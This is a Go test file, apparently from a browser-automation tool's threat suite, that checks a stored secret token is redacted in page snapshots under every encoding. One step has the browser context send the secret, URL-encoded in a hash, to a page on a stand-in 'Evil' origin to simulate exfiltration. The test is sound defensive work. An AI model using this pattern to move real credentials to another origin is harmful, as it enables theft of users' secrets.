package threat

import (
	"crypto/rand"
	"encoding/json"
	"fmt"
	"strings"
	"testing"

	"browser-mcp/internal/leak"
	"browser-mcp/internal/site"
	"browser-mcp/vault"
)

// A value that nobody can guess is hidden wherever its browser context shows it, in every encoding and under every
// origin (N2).
func TestThreatStrongValueIsHiddenEverywhere(t *testing.T) {
	value := rand.Text() + rand.Text()[:6]
	s := site.New(t)
	s.Page("/echo", noIcon+`<title>Echo</title><ol id="out"></ol><script>
const texts = JSON.parse(decodeURIComponent(location.hash.slice(1)));
for (const text of texts) { const li = document.createElement('li'); li.textContent = text; out.append(li); }
document.title = texts[0]; setTimeout(() => alert(texts[0])); </script>`)
	s.Page("/key", noIcon+`<title>Key</title><label>Key <input name="key" type="password"></label>`)
	r := newRoom(t, s)
	r.secret("key", vault.Token, value)
	a, stranger := r.connect(), r.connect()
	a.clean(value)
	a.open("/key")
	a.fill("key", "key")
	var texts []string
	for _, e := range leak.Encodings(value) {
		texts = append(texts, e.Text)
	}
	list, err := json.Marshal(texts)
	if err != nil {
		t.Fatal(err)
	}
	show := fmt.Sprintf("encodeURIComponent(%q)", list)
	for _, origin := range []string{s.Shop, s.Evil} {
		a.eval("/key", fmt.Sprintf("void open('%s/echo#' + %s) ?? ''", origin, show))
		r.arrives("/echo")
		s.Forget()
	}
	for _, tab := range []string{"t2", "t3"} {
		a.call("wait_for", args{"tabId": tab, "text": "[REDACTED", "timeout_seconds": 20})
		view := a.call("snapshot", args{"tabId": tab})
		if n := strings.Count(view, "[REDACTED:"+r.ids["key"]+"]"); n < len(texts)/2 {
			t.Errorf("snapshot of %s has %d markers for %d encodings:\n%s", tab, n, len(texts), view)
		}
		a.call("snapshot", args{"tabId": tab, "format": "json"})
		a.call("list_network_requests", args{"tabId": tab})
	}
	a.call("list_tabs", nil)
	// Another context never held it, so nothing there is compared with it (N0, and the ground of rule 13).
	stranger.open("/echo#" + strings.ReplaceAll(fmt.Sprintf("[%q]", value), `"`, "%22"))
	if view := stranger.look(); !strings.Contains(view, value) {
		t.Errorf("snapshot of another session:\n%s\nwant the text as it stands", view)
	}
}
